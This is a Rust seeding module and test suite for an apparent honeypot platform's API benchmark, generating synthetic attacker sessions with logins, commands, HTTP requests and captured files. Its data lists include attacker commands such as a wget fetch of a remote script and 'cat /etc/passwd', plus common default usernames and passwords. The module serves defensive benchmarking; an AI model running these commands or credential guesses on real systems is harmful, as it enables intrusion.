//! Seeding for the `api` benchmark: realistic attacker sessions pushed through the real ingest
//! path, so events, attackers, credentials, sessions and artifacts are all filled.
//!
//! [`Generator`] yields batches deterministically from [`SeedSpec::seed`]: attackers (a few
//! very busy, a long tail of quiet ones) open sessions on deckies' services —
//! `connect`, a burst of `login_attempt` (with credential fields drawn from common
//! principals and passwords, so secrets are reused across deckies), `command`, `request` or
//! `file_captured` events, then `disconnect` (and `session_recorded` for shells). Times are
//! spread evenly over [`SeedSpec::span`] ending at [`SeedSpec::end`]. [`seed`] commits the
//! batches with [`SeedSpec::concurrency`] committers and reports the rate.

use std::net::{IpAddr, Ipv4Addr};
use std::time::{Duration, Instant};

use anyhow::Context as _;
use decnet_event::{Event, Outcome};
use decnet_master::ingest::Ingest;
use time::OffsetDateTime;

/// What to seed.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SeedSpec {
    /// Events in total.
    pub events: usize,
    /// Distinct deckies (`decky-01` …).
    pub deckies: usize,
    /// Distinct source addresses.
    pub ips: usize,
    /// Events per committed batch.
    pub batch: usize,
    /// Batches committed at the same time.
    pub concurrency: usize,
    /// Time covered by the events.
    pub span: time::Duration,
    /// Time of the last event.
    pub end: OffsetDateTime,
    /// Seed of the generator.
    pub seed: u64,
    /// Host name stored with the events.
    pub host: String,
}

impl SeedSpec {
    /// The `api` benchmark's data set: 1,000,000 events, 50 deckies, 5,000 addresses, over
    /// the last 7 days, in batches of 1,000.
    pub fn api_default() -> SeedSpec {
        SeedSpec {
            events: 1_000_000,
            deckies: 50,
            ips: 5_000,
            batch: 1_000,
            concurrency: 2,
            span: time::Duration::days(7),
            end: OffsetDateTime::now_utc(),
            seed: 0x00de_c0de,
            host: "bench-host".to_owned(),
        }
    }
}

/// What [`seed`] did.
#[derive(Debug, Clone, PartialEq)]
pub struct SeedReport {
    /// Events newly stored.
    pub inserted: u64,
    /// Batches committed.
    pub batches: u64,
    /// Wall time of generation and commits.
    pub elapsed: Duration,
    /// `inserted / elapsed`.
    pub events_per_s: f64,
}

/// Commits every batch of `spec` through `ingest`.
pub async fn seed(ingest: &Ingest, spec: &SeedSpec) -> anyhow::Result<SeedReport> {
    let started = Instant::now();
    let workers = spec.concurrency.max(1);
    let (tx, rx) = tokio::sync::mpsc::channel::<Vec<Event>>(workers * 2);
    let rx = std::sync::Arc::new(tokio::sync::Mutex::new(rx));
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..workers {
        let rx = rx.clone();
        let ingest = ingest.clone();
        let host = spec.host.clone();
        tasks.spawn(async move {
            let mut inserted = 0u64;
            let mut batches = 0u64;
            loop {
                let Some(batch) = rx.lock().await.recv().await else {
                    break;
                };
                let outcome = ingest.commit(&host, batch).await?;
                inserted += outcome.inserted as u64;
                batches += 1;
            }
            Ok::<_, anyhow::Error>((inserted, batches))
        });
    }
    for batch in Generator::new(spec.clone()) {
        if tx.send(batch).await.is_err() {
            break;
        }
    }
    drop(tx);
    let (mut inserted, mut batches) = (0, 0);
    while let Some(done) = tasks.join_next().await {
        let (i, b) = done.context("seeding task panicked")??;
        inserted += i;
        batches += b;
    }
    let elapsed = started.elapsed();
    Ok(SeedReport {
        inserted,
        batches,
        elapsed,
        events_per_s: inserted as f64 / elapsed.as_secs_f64().max(1e-9),
    })
}

/// (service, port, middle event type).
const SERVICES: [(&str, u16, &str); 8] = [
    ("ssh", 22, "command"),
    ("telnet", 23, "command"),
    ("http", 80, "request"),
    ("ftp", 21, "command"),
    ("smb", 445, "negotiate"),
    ("mysql", 3306, "query"),
    ("redis", 6379, "command"),
    ("rdp", 3389, "negotiate"),
];
const LOGIN_SERVICES: [&str; 5] = ["ssh", "telnet", "ftp", "mysql", "rdp"];
const PRINCIPALS: [&str; 12] = [
    "root", "admin", "ubuntu", "user", "test", "oracle", "postgres", "pi", "guest", "ftp", "git",
    "support",
];
const PASSWORDS: [&str; 24] = [
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "qwerty",
    "toor",
    "raspberry",
    "letmein",
    "changeme",
    "P@ssw0rd",
    "default",
    "guest",
    "1234",
    "welcome",
    "passw0rd",
    "ubuntu",
    "abc123",
    "iloveyou",
    "monkey",
    "dragon",
    "111111",
    "master",
    "secret",
];
const COMMANDS: [&str; 8] = [
    "uname -a",
    "cat /etc/passwd",
    "wget http://203.0.113.50/x.sh",
    "id",
    "ls -la /tmp",
    "nproc",
    "curl -s ifconfig.me",
    "crontab -l",
];
const PATHS: [&str; 6] = [
    "/",
    "/admin",
    "/wp-login.php",
    "/.env",
    "/login",
    "/api/v1/status",
];

/// Deterministic xorshift64*: the seeding must not depend on a random source.
#[derive(Debug, Clone)]
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }

    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }

    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items
            .get(self.below(items.len()))
            .copied()
            .unwrap_or_default()
    }
}

/// One session being generated: its events not yet emitted, newest last.
#[derive(Debug)]
struct Session {
    decky: String,
    service: usize,
    ip: IpAddr,
    port: u16,
    sid: String,
    remaining: Vec<&'static str>,
}

/// Yields the batches of a [`SeedSpec`], deterministically.
#[derive(Debug)]
pub struct Generator {
    spec: SeedSpec,
    rng: Rng,
    produced: usize,
    start: OffsetDateTime,
    step_ns: i128,
    session: Option<Session>,
}

impl Generator {
    /// A generator for `spec`.
    pub fn new(spec: SeedSpec) -> Generator {
        let start = spec.end - spec.span;
        let step_ns = spec.span.whole_nanoseconds() / spec.events.max(1) as i128;
        Generator {
            rng: Rng(spec.seed | 1),
            spec,
            produced: 0,
            start,
            step_ns,
            session: None,
        }
    }

    /// The services of decky number `d` (3 or 4 of them, always including ssh for half).
    fn services_of(d: usize) -> Vec<usize> {
        let n = 3 + d % 2;
        (0..n).map(|i| (d + i * 3) % SERVICES.len()).collect()
    }

    fn new_session(&mut self) -> Session {
        let d = self.rng.below(self.spec.deckies);
        let services = Self::services_of(d);
        let service = services[self.rng.below(services.len())];
        // A few addresses do most of the work: index ~ ips * u^3.
        let u = self.rng.unit();
        let idx = ((self.spec.ips as f64) * u * u * u) as u32;
        let ip = IpAddr::V4(Ipv4Addr::from(
            0x0a00_0000 + idx.min(self.spec.ips as u32 - 1),
        ));
        let (name, _, middle) = SERVICES[service];
        let burst = 1 + self.rng.below(12);
        let mut events = vec!["connect"];
        if LOGIN_SERVICES.contains(&name) {
            events.extend(std::iter::repeat_n("login_attempt", burst));
        }
        events.extend(std::iter::repeat_n(middle, 1 + self.rng.below(6)));
        if name == "ssh" && self.rng.below(20) == 0 {
            events.push("file_captured");
        }
        events.push("disconnect");
        if matches!(name, "ssh" | "telnet") {
            events.push("session_recorded");
        }
        events.reverse();
        Session {
            decky: format!("decky-{:02}", d + 1),
            service,
            ip,
            port: 1024 + (self.rng.next() % 60000) as u16,
            sid: format!("{:016x}", self.rng.next()),
            remaining: events,
        }
    }

    fn event(&mut self) -> Option<Event> {
        if self.session.as_ref().is_none_or(|s| s.remaining.is_empty()) {
            self.session = Some(self.new_session());
        }
        let ts =
            self.start + time::Duration::nanoseconds_i128(self.step_ns * self.produced as i128);
        let mut s = self.session.take()?;
        let kind = s.remaining.pop()?;
        let (service, port, _) = SERVICES[s.service];
        let mut b = Event::builder()
            .ts(ts)
            .host(self.spec.host.clone())
            .decky(s.decky.clone())
            .service(service)
            .event_type(kind)
            .src(std::net::SocketAddr::new(s.ip, s.port))
            .dst_port(port)
            .session_id(s.sid.clone());
        match kind {
            "login_attempt" => {
                let principal = self.rng.pick(&PRINCIPALS);
                let password = self.rng.pick(&PASSWORDS);
                let outcome = if self.rng.below(50) == 0 {
                    Outcome::Success
                } else {
                    Outcome::Failure
                };
                b = b.credential(principal, "plaintext", password.as_bytes(), outcome);
            }
            "command" | "query" => {
                let cmd = self.rng.pick(&COMMANDS);
                b = b.field("cmd", cmd).msg(format!("CMD {cmd}"));
            }
            "request" => {
                let path = self.rng.pick(&PATHS);
                b = b
                    .field("method", "GET")
                    .field("path", path)
                    .field("user_agent", "Mozilla/5.0 zgrab/0.x")
                    .msg(format!("GET {path}"));
            }
            "file_captured" => {
                let n = self.rng.next();
                b = b
                    .field("sha256", format!("{n:016x}").repeat(4))
                    .field("size", (n % 100_000).to_string())
                    .field("orig_path", "/tmp/x.sh")
                    .field("stored_as", format!("{n:016x}.bin"));
            }
            "session_recorded" => {
                let day = ts.date();
                b = b
                    .field(
                        "shard",
                        format!("{}/{service}/transcripts/sessions-{day}.jsonl", s.decky),
                    )
                    .field("bytes", (self.rng.next() % 50_000).to_string())
                    .field("truncated", "false");
            }
            "disconnect" => {
                b = b.field("reason", "client_closed");
            }
            _ => {}
        }
        self.session = Some(s);
        self.produced += 1;
        // Every generated event is valid by construction; a failure here is a bug.
        b.build().ok()
    }
}

impl Iterator for Generator {
    type Item = Vec<Event>;

    fn next(&mut self) -> Option<Vec<Event>> {
        let left = self.spec.events.saturating_sub(self.produced);
        if left == 0 {
            return None;
        }
        let n = left.min(self.spec.batch.max(1));
        let mut batch = Vec::with_capacity(n);
        for _ in 0..n {
            batch.push(self.event()?);
        }
        Some(batch)
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::expect_used)]

    use super::*;

    fn small() -> SeedSpec {
        SeedSpec {
            events: 5_000,
            deckies: 5,
            ips: 50,
            batch: 1_000,
            end: OffsetDateTime::from_unix_timestamp(1_750_000_000).unwrap(),
            ..SeedSpec::api_default()
        }
    }

    #[test]
    fn generator_yields_exactly_the_events_asked_in_time_order() {
        let batches: Vec<_> = Generator::new(small()).collect();
        assert_eq!(batches.len(), 5);
        let events: Vec<&Event> = batches.iter().flatten().collect();
        assert_eq!(events.len(), 5_000);
        assert!(events.windows(2).all(|w| w[0].ts <= w[1].ts));
        assert!(events.iter().all(|e| e.validate().is_ok()));
        let logins = events
            .iter()
            .filter(|e| e.event_type == "login_attempt")
            .count();
        assert!(logins > 500, "{logins}");
        let ssh_logins = events
            .iter()
            .filter(|e| e.service == "ssh" && e.event_type == "login_attempt")
            .count();
        assert!(ssh_logins > 50, "{ssh_logins}");
    }

    #[test]
    fn generator_is_deterministic_apart_from_ids() {
        let a: Vec<_> = Generator::new(small())
            .flatten()
            .map(|e| (e.ts, e.src_ip, e.fields))
            .collect();
        let b: Vec<_> = Generator::new(small())
            .flatten()
            .map(|e| (e.ts, e.src_ip, e.fields))
            .collect();
        assert_eq!(a, b);
    }

    /// Seeds the full `api` data set into a throwaway cluster and prints the rate:
    /// `cargo test --release -p decnet-integration seed_api_dataset -- --ignored --nocapture`.
    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    #[ignore = "takes about a minute; run explicitly to measure seeding"]
    async fn seed_api_dataset() {
        let events: usize = std::env::var("SEED_EVENTS")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(1_000_000);
        let concurrency: usize = std::env::var("SEED_CONCURRENCY")
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(2);
        // SEED_DATABASE_URL seeds a database that outlives the test (for EXPLAIN, or an API run).
        let db = decnet_pgcluster::TestCluster::start().unwrap();
        let pg = match std::env::var("SEED_DATABASE_URL") {
            Ok(url) => url.parse().unwrap(),
            Err(_) => db.create_unique_database().await.unwrap().1,
        };
        let settings = decnet_master::config::DatabaseConfig::default();
        let store = decnet_master::store::Store::connect(pg, &settings)
            .await
            .unwrap();
        store.migrate().await.unwrap();
        let ingest = Ingest::new(store.clone(), decnet_mesh::bus::Bus::disabled("seed"));
        let spec = SeedSpec {
            events,
            concurrency,
            ..SeedSpec::api_default()
        };
        let report = seed(&ingest, &spec).await.unwrap();
        println!(
            "seeded {} events in {} batches of {} ({} committers) in {:.1} s: {:.0} events/s",
            report.inserted,
            report.batches,
            spec.batch,
            concurrency,
            report.elapsed.as_secs_f64(),
            report.events_per_s
        );
        assert_eq!(report.inserted, events as u64);
        let again = seed(
            &ingest,
            &SeedSpec {
                events: 10_000,
                ..spec.clone()
            },
        )
        .await
        .unwrap();
        assert!(again.inserted == 10_000, "fresh ids every run");
        let stats = decnet_master::store::stats::summary(&store).await.unwrap();
        assert_eq!(stats.events_total, events as i64 + 10_000);
        println!("{stats:?}");
    }
}
